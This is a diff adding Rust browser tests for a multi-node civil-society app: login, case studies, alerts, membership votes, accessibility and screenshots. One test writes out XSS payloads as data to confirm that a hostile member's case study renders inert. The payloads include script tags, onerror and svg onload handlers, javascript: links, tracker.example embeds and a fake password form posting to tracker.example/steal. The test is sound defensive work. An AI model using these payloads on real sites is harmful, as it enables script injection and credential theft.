@@ -7,18 +7,222 @@
 //! | flow | test |
 //! |---|---|
 //! | log in with the one-time link; a second use is refused | [`login_link_lets_in_once`] |
+//! | a case study written at A (form, preview, publish) is found in B's library and search | [`case_study_published_at_a_is_found_at_b`] |
+//! | an alert raised at A is answered at B, and A counts B as responded | [`alert_raised_at_a_is_answered_at_b`] |
+//! | an applicant applies through its app; two founders admit it through theirs | [`applicant_is_admitted_by_two_founders`] |
+//! | a hostile member's case study renders inert in another member's app | [`hostile_case_study_renders_inert`] |
+//! | axe-core on every page; screenshots at desktop and phone widths, in Arabic, and a form with JavaScript off | [`every_page_is_accessible_and_photographed`] |
 //!
 //! Without a browser these tests skip, saying so; under `CI=true` they fail instead.
-//! Screenshots go to `target/web-screenshots/<flow>/` (printed by the tests).
+//! Screenshots go to `target/web-screenshots/<flow>/` (each test prints its folder).
+//! The tests take turns ([`one_at_a_time`]): each runs a network of nodes and a
+//! browser, and two at once on a two-core machine only make each slower.
+
+use std::path::{Path, PathBuf};
+use std::sync::{Mutex, MutexGuard};
+use std::time::Duration;
 
 use commons_tests::TestNode;
-use commons_tests::browser::{Browser, BrowserOptions, BrowserTools, login_url};
+use commons_tests::browser::{
+    Applicant, AxeViolation, Browser, BrowserOptions, BrowserTools, DESKTOP_WIDTH, Devnet,
+    DevnetNode, PHONE_WIDTH, login_url, screenshot_dir,
+};
+use serde_json::Value;
+
+/// How long a record published at one node may take to show in another node's app.
+const SYNC_DEADLINE: Duration = Duration::from_secs(60);
+/// How long an admission may take to reach the admitted org's own node (at its next
+/// greeting of a member, then a full sync).
+const ADMISSION_DEADLINE: Duration = Duration::from_secs(90);
+/// The devnet every test runs: three founders, so that admission takes two votes.
+const DEVNET_NODES: u32 = 3;
+/// Sample records in the devnet: a campaign with updates, an alert with responses,
+/// case studies; enough for every page to have something to show.
+const DEVNET_RECORDS: u32 = 20;
 
 /// Words of the English catalog (web/i18n/en) that the flows look for.
 mod words {
     pub const LOG_OUT: &str = "Log out";
     pub const LINK_USED: &str = "This link has already been used or has expired.";
     pub const HOW_TO_OPEN: &str = "To open the app, run this command";
+
+    pub const CASE_TITLE: &str = "Title";
+    pub const CASE_SUMMARY: &str = "Summary (optional)";
+    pub const CASE_BODY: &str = "The case study";
+    pub const CASE_PUBLIC: &str = "Public";
+    pub const PREVIEW: &str = "Preview";
+    pub const PREVIEW_NOTE: &str = "Preview: this is how members will see it.";
+    pub const PUBLISH: &str = "Publish";
+    pub const PUBLISHED: &str = "Your case study was published.";
+    pub const SEARCH: &str = "Search";
+    pub const SIGNATURE_VALID: &str = "Valid";
+
+    pub const ALERT_URGENT: &str = "Urgent";
+    pub const ALERT_TITLE: &str = "Title";
+    pub const ALERT_REGION: &str = "Region";
+    pub const ALERT_BODY: &str = "What happened";
+    pub const ALERT_ACTION: &str = "Action requested";
+    pub const RAISE: &str = "Raise the alert";
+    pub const RAISED: &str = "The alert was raised and sent to the network.";
+    pub const ACTING: &str = "Acting";
+    pub const NOTE: &str = "Note (optional)";
+    pub const RESPOND: &str = "Send our response";
+    pub const RESPONDED: &str = "Our response was sent to the network.";
+
+    pub const NOT_A_MEMBER: &str = "Your organization is not a member yet";
+    pub const APPLY: &str = "Apply to join";
+    pub const STATEMENT: &str = "Why your organization asks to join";
+    pub const SEND_APPLICATION: &str = "Send the application";
+    pub const APPLIED: &str = "Your application was published.";
+    pub const REVIEW: &str = "Read the application and vote";
+    pub const ENDORSE: &str = "Endorse admission";
+    pub const ENDORSED: &str = "Your endorsement was published.";
+    pub const ENDORSED_BY: &str = "Endorsed by:";
+
+    pub const CHECK_PROFILE: &str = "Check our profile first";
+    pub const NAME: &str = "Name";
+    pub const COUNTRY: &str = "Country";
+    pub const SAVE_PROFILE: &str = "Publish the profile";
+    pub const PROFILE_SAVED: &str = "Your profile was published.";
+    pub const LANGUAGE: &str = "Language";
+    pub const CHANGE_LANGUAGE: &str = "Change";
+}
+
+/// The lock the tests take turns on; a test that failed does not stop the others.
+fn one_at_a_time() -> MutexGuard<'static, ()> {
+    static TURN: Mutex<()> = Mutex::new(());
+    TURN.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
+}
+
+/// A browser logged in to the app of the node in `data_dir` with a fresh one-time link,
+/// on `page`.
+fn log_in(
+    name: &str,
+    tools: &BrowserTools,
+    options: &BrowserOptions,
+    data_dir: &Path,
+    page: &str,
+) -> Browser {
+    let browser = Browser::start(name, tools, options);
+    browser.goto(&login_url(data_dir, Some(page)));
+    let wanted = page.to_owned();
+    browser.wait_until(&format!("the login link to land on {page}"), |browser| {
+        (browser.path() == wanted).then_some(())
+    });
+    browser.wait_loaded();
+    browser
+}
+
+/// [`log_in`] to a devnet node with the default options.
+fn log_in_at(name: &str, tools: &BrowserTools, node: &DevnetNode, page: &str) -> Browser {
+    log_in(
+        name,
+        tools,
+        &BrowserOptions::default(),
+        &node.data_dir,
+        page,
+    )
+}
+
+/// Opens the app's `path` (same origin as where the browser is) and waits for it.
+fn open(browser: &Browser, path: &str) {
+    let url = format!("{}{path}", browser.origin());
+    browser.goto(&url);
+    browser.wait_loaded();
+}
+
+/// The first link in the page's main content whose path starts with `prefix` and
+/// goes further (`/cases/` finds `/cases/rec_…`, not `/cases/new`).
+fn first_link(browser: &Browser, prefix: &str) -> Option<String> {
+    let found = browser.execute(
+        "const prefix = arguments[0];
+         const main = document.querySelector('main') || document.body;
+         for (const a of main.querySelectorAll('a[href]')) {
+           const href = a.getAttribute('href');
+           if (href.startsWith(prefix) && /^[a-z]+_[0-9a-f]+$/.test(href.slice(prefix.length))) {
+             return href;
+           }
+         }
+         return null;",
+        vec![Value::from(prefix)],
+    );
+    found.as_str().map(str::to_owned)
+}
+
+/// Screenshots of the page at desktop and phone widths, `<dir>/<name>-desktop.png`
+/// and `<name>-phone.png`.
+fn photograph(browser: &Browser, dir: &Path, name: &str) {
+    browser.screenshot(
+        &dir.join(format!("{name}-desktop.png")),
+        DESKTOP_WIDTH,
+        false,
+    );
+    browser.screenshot(&dir.join(format!("{name}-phone.png")), PHONE_WIDTH, true);
+}
+
+/// What axe found on each page: the serious and critical findings, for one failure
+/// message naming every page, rule and element.
+#[derive(Debug, Default)]
+struct AxeReport {
+    pages: usize,
+    findings: Vec<(String, AxeViolation)>,
+}
+
+impl AxeReport {
+    /// Runs axe on the page the browser shows, which `name` names.
+    fn check(&mut self, browser: &Browser, name: &str) {
+        self.pages += 1;
+        let path = browser.path();
+        for violation in browser.axe() {
+            if violation.is_serious() {
+                self.findings.push((format!("{name} ({path})"), violation));
+            } else {
+                // Not a failure, but worth the page owner's look.
+                eprintln!(
+                    "axe, {name} ({path}): {} [{}] {} on {} element(s)",
+                    violation.rule,
+                    violation.impact,
+                    violation.help,
+                    violation.nodes.len()
+                );
+            }
+        }
+    }
+
+    /// Fails, listing every finding, if there is any.
+    fn assert_clean(&self) {
+        if self.findings.is_empty() {
+            eprintln!(
+                "axe: no serious or critical violation on {} pages",
+                self.pages
+            );
+            return;
+        }
+        let mut message = format!(
+            "axe found {} serious or critical violations:\n",
+            self.findings.len()
+        );
+        for (page, violation) in &self.findings {
+            message.push_str(&format!(
+                "- {page}: {} [{}] {}\n",
+                violation.rule, violation.impact, violation.help
+            ));
+            for node in violation.nodes.iter().take(5) {
+                message.push_str(&format!("    {node}\n"));
+            }
+            if violation.nodes.len() > 5 {
+                message.push_str(&format!("    … and {} more\n", violation.nodes.len() - 5));
+            }
+        }
+        panic!("{message}");
+    }
+}
+
+/// The screenshot folder of `flow`, announced.
+fn shots(flow: &str) -> PathBuf {
+    let dir = screenshot_dir(flow);
+    eprintln!("screenshots of {flow}: {}", dir.display());
+    dir
 }
 
 /// Following `commons open`'s link lets a person in (a session cookie the page's
@@ -29,6 +233,7 @@ fn login_link_lets_in_once() {
     let Some(tools) = BrowserTools::for_test("login_link_lets_in_once") else {
         return;
     };
+    let _turn = one_at_a_time();
     let node = TestNode::start();
     let url = login_url(node.data_dir(), Some("/members"));
 
@@ -44,7 +249,7 @@ fn login_link_lets_in_once() {
         !cookies.as_str().unwrap_or_default().contains("session"),
         "the session cookie must be HttpOnly, but the page's scripts read {cookies}"
     );
-    staff.goto(&format!("{}/", staff.origin()));
+    open(&staff, "/");
     staff.wait_for_text(words::LOG_OUT);
 
     let stranger = Browser::start("stranger", &tools, &BrowserOptions::default());
@@ -54,8 +259,7 @@ fn login_link_lets_in_once() {
         !stranger.text().contains(words::LOG_OUT),
         "a used link must not let a second browser in"
     );
-    let origin = stranger.origin();
-    stranger.goto(&format!("{origin}/cases"));
+    open(&stranger, "/cases");
     stranger.wait_until(
         "a browser without a session to be sent to /welcome",
         |browser| (browser.path() == "/welcome").then_some(()),
@@ -67,8 +271,460 @@ fn login_link_lets_in_once() {
     staff.wait_until("logging out to lead to /welcome", |browser| {
         (browser.path() == "/welcome").then_some(())
     });
-    staff.goto(&format!("{origin}/"));
+    open(&staff, "/");
     staff.wait_until("a logged-out browser to be sent to /welcome", |browser| {
         (browser.path() == "/welcome").then_some(())
     });
+}
+
+/// A person at A writes a case study through /cases/new (the form, its preview, then
+/// publish); a person at B finds it in B's library once it has synced, and by B's
+/// search on a word of its body, and opens it.
+#[test]
+fn case_study_published_at_a_is_found_at_b() {
+    let Some(tools) = BrowserTools::for_test("case_study_published_at_a_is_found_at_b") else {
+        return;
+    };
+    let _turn = one_at_a_time();
+    let dir = shots("case-study");
+    let devnet = Devnet::start(DEVNET_NODES, DEVNET_RECORDS);
+    let (a, b) = (&devnet.nodes[0], &devnet.nodes[1]);
+    let title = "Mobile legal clinics at the river settlements";
+    // A word no sample record uses, to search for.
+    let rare = "Quillanbar";
+
+    let at_a = log_in_at("A", &tools, a, "/cases/new");
+    at_a.fill(words::CASE_TITLE, title);
+    at_a.fill(
+        words::CASE_SUMMARY,
+        "Volunteer lawyers held weekly clinics by boat; eviction notices fell by half.",
+    );
+    at_a.fill(
+        words::CASE_BODY,
+        &format!(
+            "## What we did\n\nEvery Saturday a boat took two volunteer lawyers to the {rare} \
+             settlements.\n\n- Residents brought their notices\n- We filed **objections** the same week\n"
+        ),
+    );
+    at_a.tick(words::CASE_PUBLIC);
+    at_a.press(words::PREVIEW);
+    at_a.wait_for_text(words::PREVIEW_NOTE);
+    at_a.wait_for_text("What we did");
+    let preview = at_a.text();
+    assert!(
+        preview.contains(title) && preview.contains("objections"),
+        "the preview shows the title and the rendered body: {preview}"
+    );
+    photograph(&at_a, &dir, "a-cases-new-preview");
+    at_a.press(words::PUBLISH);
+    at_a.wait_for_text(words::PUBLISHED);
+    assert!(
+        at_a.path().starts_with("/cases/rec_"),
+        "publishing leads to the case study's page, not {}",
+        at_a.path()
+    );
+    at_a.wait_for_text(title);
+    photograph(&at_a, &dir, "a-case-published");
+
+    let at_b = log_in_at("B", &tools, b, "/cases");
+    at_b.reload_until_text(title, SYNC_DEADLINE);
+    photograph(&at_b, &dir, "b-cases-library");
+    at_b.fill(words::SEARCH, &rare.to_lowercase()[..6]);
+    at_b.press(words::SEARCH);
+    at_b.wait_until("the search to be in the address", |browser| {
+        browser.path().contains("q=").then_some(())
+    });
+    at_b.wait_for_text(title);
+    photograph(&at_b, &dir, "b-cases-search");
+    at_b.follow(title);
+    at_b.wait_for_text("Every Saturday a boat took two volunteer lawyers");
+    at_b.wait_for_text(&a.name);
+    at_b.wait_for_text(words::SIGNATURE_VALID);
+    photograph(&at_b, &dir, "b-case-page");
+}
+
+/// A person at A raises an urgent alert through /alerts/new; a person at B opens it
+/// once it has synced and answers "acting" with a note; A's alert page then counts B
+/// among those who responded, with its answer and note.
+#[test]
+fn alert_raised_at_a_is_answered_at_b() {
+    let Some(tools) = BrowserTools::for_test("alert_raised_at_a_is_answered_at_b") else {
+        return;
+    };
+    let _turn = one_at_a_time();
+    let dir = shots("alert");
+    let devnet = Devnet::start(DEVNET_NODES, DEVNET_RECORDS);
+    let (a, b) = (&devnet.nodes[0], &devnet.nodes[1]);
+    let title = "Community radio station raided in the delta district";
+    let note = "We wrote to the district governor this morning.";
+
+    let at_a = log_in_at("A", &tools, a, "/alerts/new");
+    at_a.tick(words::ALERT_URGENT);
+    at_a.fill(words::ALERT_TITLE, title);
+    at_a.fill(words::ALERT_REGION, "Delta district");
+    at_a.fill(
+        words::ALERT_BODY,
+        "Police took the station's transmitter and two laptops; nobody was arrested.",
+    );
+    at_a.fill(
+        words::ALERT_ACTION,
+        "Write to the district governor asking for the equipment back.",
+    );
+    at_a.press(words::RAISE);
+    at_a.wait_for_text(words::RAISED);
+    let alert_path = at_a.path();
+    assert!(
+        alert_path.starts_with("/alerts/rec_"),
+        "raising leads to the alert's page, not {alert_path}"
+    );
+    let alert_path = alert_path.split('?').next().unwrap_or_default().to_owned();
+
+    let at_b = log_in_at("B", &tools, b, "/alerts");
+    at_b.reload_until_text(title, SYNC_DEADLINE);
+    photograph(&at_b, &dir, "b-alerts");
+    at_b.follow(title);
+    at_b.tick(words::ACTING);
+    at_b.fill(words::NOTE, note);
+    photograph(&at_b, &dir, "b-alert-responding");
+    at_b.press(words::RESPOND);
+    at_b.wait_for_text(words::RESPONDED);
+    photograph(&at_b, &dir, "b-alert-responded");
+
+    open(&at_a, &alert_path);
+    at_a.reload_until_text(note, SYNC_DEADLINE);
+    let row = at_a.execute(
+        "for (const row of document.querySelectorAll('table tr')) {
+           if (row.innerText.includes(arguments[0])) { return row.innerText; }
+         }
+         return null;",
+        vec![Value::from(b.name.as_str())],
+    );
+    let row = row.as_str().unwrap_or_default();
+    assert!(
+        row.contains(words::ACTING) && row.contains(note),
+        "A's alert page lists B ({}) as acting with its note; its row: {row:?}",
+        b.name
+    );
+    photograph(&at_a, &dir, "a-alert-responses");
+}
+
+/// A new org (`commons init`, `network join` of the devnet's charter, `node run`
+/// dialing two founders) applies through its own app; two founders each open the
+/// application in their app and endorse it through the vote confirmation page; then
+/// the applicant's app shows its org as one of the network's four members.
+///
+/// Two votes suffice: the devnet's charter is founded by three orgs with the founding
+/// majority as its admission threshold (`founding_majority`, 2/3 of the members), and
+/// 2/3 of three members is two endorsements.
+#[test]
+fn applicant_is_admitted_by_two_founders() {
+    let Some(tools) = BrowserTools::for_test("applicant_is_admitted_by_two_founders") else {
+        return;
+    };
+    let _turn = one_at_a_time();
+    let dir = shots("membership");
+    let devnet = Devnet::start(DEVNET_NODES, DEVNET_RECORDS);
+    let (a, b) = (&devnet.nodes[0], &devnet.nodes[1]);
+    let name = "Riverbank Tenants' Defence Forum";
+    let applicant = Applicant::start(name, &devnet.charter(), &[a, b]);
+    let mut axe = AxeReport::default();
+
+    let at_applicant = log_in(
+        "applicant",
+        &tools,
+        &BrowserOptions::default(),
+        applicant.data_dir(),
+        "/members",
+    );
+    at_applicant.wait_for_text(words::NOT_A_MEMBER);
+    axe.check(&at_applicant, "members, not yet a member");
+    photograph(&at_applicant, &dir, "applicant-members");
+    // The page's advice: check the profile first, so that members see who asks (an
+    // application alone shows them only an org id).
+    at_applicant.follow(words::CHECK_PROFILE);
+    at_applicant.fill(words::NAME, name);
+    at_applicant.fill(words::COUNTRY, "Kenya");
+    at_applicant.press(words::SAVE_PROFILE);
+    at_applicant.wait_for_text(words::PROFILE_SAVED);
+    open(&at_applicant, "/members");
+    at_applicant.follow(words::APPLY);
+    axe.check(&at_applicant, "apply");
+    at_applicant.fill(
+        words::STATEMENT,
+        "We defend tenants of the riverbank settlements in court and want to share our case files.",
+    );
+    photograph(&at_applicant, &dir, "applicant-apply");
+    at_applicant.press(words::SEND_APPLICATION);
+    at_applicant.wait_for_text(words::APPLIED);
+    photograph(&at_applicant, &dir, "applicant-applied");
+
+    for (index, founder) in [a, b].into_iter().enumerate() {
+        let at_founder = log_in_at(&format!("founder {index}"), &tools, founder, "/members");
+        at_founder.reload_until_text(name, SYNC_DEADLINE);
+        if index == 1 {
+            // B's endorsement is the one that decides once B holds A's: wait for it, so
+            // that the page says so.
+            let org_path = format!("/members/{}", applicant.org_id());
+            open(&at_founder, &org_path);
+            at_founder.reload_until_text(words::ENDORSED_BY, SYNC_DEADLINE);
+            open(&at_founder, "/members");
+        }
+        photograph(&at_founder, &dir, &format!("founder{index}-members"));
+        at_founder.follow(words::REVIEW);
+        at_founder.wait_for_text(name);
+        photograph(&at_founder, &dir, &format!("founder{index}-application"));
+        axe.check(&at_founder, "an applicant's page");
+        at_founder.follow(words::ENDORSE);
+        // The confirmation page names the consequence before anything is signed.
+        at_founder.wait_for_text("lets its devices publish to the whole network");
+        axe.check(&at_founder, "vote confirmation (admit)");
+        photograph(&at_founder, &dir, &format!("founder{index}-vote-confirm"));
+        at_founder.press(words::ENDORSE);
+        if index == 0 {
+            at_founder.wait_for_text(words::ENDORSED);
+        } else {
+            at_founder.wait_for_text("is now a member of the network");
+        }
+        photograph(&at_founder, &dir, &format!("founder{index}-voted"));
+    }
+
+    open(&at_applicant, "/members");
+    at_applicant.reload_until_text(
+        "The network has 4 member organizations.",
+        ADMISSION_DEADLINE,
+    );
+    assert!(
+        !at_applicant.text().contains(words::NOT_A_MEMBER),
+        "once admitted, the applicant's app no longer says it is not a member"
+    );
+    photograph(&at_applicant, &dir, "applicant-admitted");
+    axe.assert_clean();
+}
+
+/// A hostile member publishes (through node C's API, as any member's software could)
+/// a case study with a script, `javascript:` links, an image whose `onerror` runs
+/// script, outside images, a frame and a style. Opened in node A's app, on the home
+/// page and on its own page: no script of it ran, no element carries an event handler,
+/// no link runs script, and the browser fetched nothing from outside the app.
+#[test]
+fn hostile_case_study_renders_inert() {
+    let Some(tools) = BrowserTools::for_test("hostile_case_study_renders_inert") else {
+        return;
+    };
+    let _turn = one_at_a_time();
+    let dir = shots("hostile");
+    let devnet = Devnet::start(DEVNET_NODES, DEVNET_RECORDS);
+    let (a, c) = (&devnet.nodes[0], &devnet.nodes[2]);
+    let title = "Findings from the dam displacement hearings";
+    let body = r#"Ordinary words of the report stay readable.
+
+<script>document.title = 'pwned'; window.__pwned = 'script';</script>
+
+<img src="https://tracker.example/x.png" alt="a tracking pixel">
+
+<img src="x" onerror="window.__pwned = 'onerror'; document.title = 'pwned'">
+
+![another pixel](https://tracker.example/y.png)
+
+[Click for the full report](javascript:window.__pwned='link')
+
+<a href="javascript:window.__pwned='anchor'">Open the annex</a>
+
+<a href="JaVaScRiPt:window.__pwned='mixed-case'">Open the second annex</a>
+
+<svg onload="window.__pwned = 'svg'"><circle r="5"></circle></svg>
+
+<iframe src="https://tracker.example/frame"></iframe>
+
+<style>body { background: url(https://tracker.example/bg.png); }</style>
+
+<form action="https://tracker.example/steal"><input name="password"><button>Log in again</button></form>
+
+Last paragraph, also readable."#;
+    let published = c
+        .api
+        .publish_practice(title, body)
+        .expect("node C answers the publish call");
+    assert_eq!(published.status, 201, "publishing at C: {}", published.body);
+
+    let at_a = log_in_at("A", &tools, a, "/cases");
+    at_a.reload_until_text(title, SYNC_DEADLINE);
+    let case_path = first_link(&at_a, "/cases/").expect("the library links the case study");
+    at_a.follow(title);
+    at_a.wait_for_text("Ordinary words of the report stay readable.");
+    at_a.wait_for_text("Last paragraph, also readable.");
+    // What is left of the script links is clicked, as a reader would: nothing runs.
+    for words in ["Click for the full report", "Open the annex"] {
+        for element in at_a.elements_with_text(words) {
+            at_a.click(&element);
+        }
+    }
+    assert_inert(&at_a, "the case study, after clicking its links");
+    for page in ["/", &case_path] {
+        open(&at_a, page);
+        assert_inert(&at_a, page);
+    }
+    photograph(&at_a, &dir, "a-hostile-case");
+}
+
+/// Checks that nothing hostile happened on the page the browser shows.
+fn assert_inert(browser: &Browser, page: &str) {
+    let pwned = browser.execute(
+        "return window.__pwned === undefined ? null : String(window.__pwned);",
+        vec![],
+    );
+    assert!(pwned.is_null(), "{page}: hostile script ran ({pwned})");
+    let title = browser.title();
+    assert!(
+        !title.contains("pwned"),
+        "{page}: hostile script changed the title to {title:?}"
+    );
+    let handlers = browser.execute(
+        "const found = [];
+         for (const el of document.querySelectorAll('*')) {
+           for (const attr of el.attributes) {
+             if (attr.name.toLowerCase().startsWith('on')) { found.push(el.outerHTML.slice(0, 160)); }
+           }
+         }
+         return found;",
+        vec![],
+    );
+    assert_eq!(
+        handlers.as_array().map_or(0, Vec::len),
+        0,
+        "{page}: elements with event handlers: {handlers}"
+    );
+    let script_links = browser.execute(
+        "return [...document.querySelectorAll('[href],[src],[action],[formaction]')]
+           .map(el => el.getAttribute('href') || el.getAttribute('src') || el.getAttribute('action') || el.getAttribute('formaction') || '')
+           .filter(url => url.replace(/[\\s\\x00-\\x1f]/g, '').toLowerCase().startsWith('javascript:'));",
+        vec![],
+    );
+    assert_eq!(
+        script_links.as_array().map_or(0, Vec::len),
+        0,
+        "{page}: javascript: addresses: {script_links}"
+    );
+    let origin = browser.origin();
+    let outside: Vec<String> = browser
+        .resources()
+        .into_iter()
+        .filter(|url| !url.starts_with(&format!("{origin}/")))
+        .collect();
+    assert!(
+        outside.is_empty(),
+        "{page}: the browser fetched from outside the app ({origin}): {outside:?}"
+    );
+    let loaders = browser.execute(
+        "return [...document.querySelectorAll('main img, main iframe, main object, main embed, main svg, main form[action^=\"http\"], main style, main script')]
+           .map(el => el.outerHTML.slice(0, 160));",
+        vec![],
+    );
+    assert_eq!(
+        loaders.as_array().map_or(0, Vec::len),
+        0,
+        "{page}: the case study kept elements that load or run things: {loaders}"
+    );
+}
+
+/// axe-core finds no serious or critical violation on any page of a founder's app, in
+/// English (the membership pages of an applicant are checked by
+/// [`applicant_is_admitted_by_two_founders`]); every page is photographed at desktop
+/// and phone widths; one page is shown in Arabic, right to left, chosen in the
+/// language menu; and with JavaScript off, the profile form and the language menu
+/// still work.
+#[test]
+fn every_page_is_accessible_and_photographed() {
+    let Some(tools) = BrowserTools::for_test("every_page_is_accessible_and_photographed") else {
+        return;
+    };
+    let _turn = one_at_a_time();
+    let dir = shots("pages");
+    let devnet = Devnet::start(DEVNET_NODES, DEVNET_RECORDS);
+    let (a, b) = (&devnet.nodes[0], &devnet.nodes[1]);
+    let browser = log_in_at("A", &tools, a, "/");
+    let mut axe = AxeReport::default();
+
+    let mut visit = |path: &str, name: &str| {
+        open(&browser, path);
+        axe.check(&browser, name);
+        photograph(&browser, &dir, name);
+    };
+    visit("/", "home");
+    visit("/cases", "cases");
+    visit("/cases/new", "cases-new");
+    visit("/campaigns", "campaigns");
+    visit("/alerts", "alerts");
+    visit("/members", "members");
+    visit("/profile", "profile");
+    visit("/node", "node");
+    drop(visit);
+
+    for (list, name) in [
+        ("/cases", "case"),
+        ("/campaigns", "campaign"),
+        ("/alerts", "alert"),
+    ] {
+        open(&browser, list);
+        let path = first_link(&browser, &format!("{list}/"))
+            .unwrap_or_else(|| panic!("{list} links at least one of the devnet's sample records"));
+        open(&browser, &path);
+        axe.check(&browser, name);
+        photograph(&browser, &dir, name);
+    }
+    let other = format!("/members/{}", b.org_id());
+    open(&browser, &other);
+    axe.check(&browser, "org");
+    photograph(&browser, &dir, "org");
+    open(&browser, &format!("{other}/vote?choice=remove"));
+    browser.wait_for_text(&b.name);
+    axe.check(&browser, "vote confirmation (remove)");
+    photograph(&browser, &dir, "vote-remove");
+
+    // Right to left: Arabic, chosen in the language menu (its script submits it).
+    open(&browser, "/cases");
+    browser.choose(words::LANGUAGE, "العربية");
+    browser.wait_until("the page to turn right-to-left", |browser| {
+        let dir = browser.execute("return document.documentElement.dir;", vec![]);
+        (dir.as_str() == Some("rtl")).then_some(())
+    });
+    browser.wait_loaded();
+    photograph(&browser, &dir, "cases-arabic");
+    open(&browser, "/");
+    photograph(&browser, &dir, "home-arabic");
+
+    // The page for people not let in.
+    let stranger = Browser::start("stranger", &tools, &BrowserOptions::default());
+    stranger.goto(&format!("{}/welcome", browser.origin()));
+    stranger.wait_loaded();
+    axe.check(&stranger, "welcome");
+    photograph(&stranger, &dir, "welcome");
+    drop(stranger);
+
+    // JavaScript off: the profile form publishes, and the language menu's own button
+    // (hidden when scripts run) changes the language.
+    let no_js = log_in(
+        "A without JavaScript",
+        &tools,
+        &BrowserOptions {
+            javascript: false,
+            ..BrowserOptions::default()
+        },
+        &a.data_dir,
+        "/profile",
+    );
+    no_js.fill(words::COUNTRY, "Kenya");
+    photograph(&no_js, &dir, "profile-no-js");
+    no_js.press(words::SAVE_PROFILE);
+    no_js.wait_for_text(words::PROFILE_SAVED);
+    photograph(&no_js, &dir, "profile-saved-no-js");
+    no_js.choose(words::LANGUAGE, "Español");
+    no_js.press(words::CHANGE_LANGUAGE);
+    no_js.wait_until("the page to be in Spanish", |browser| {
+        let lang = browser.execute("return document.documentElement.lang;", vec![]);
+        (lang.as_str() == Some("es")).then_some(())
+    });
+    photograph(&no_js, &dir, "profile-spanish-no-js");
+
+    axe.assert_clean();
 }
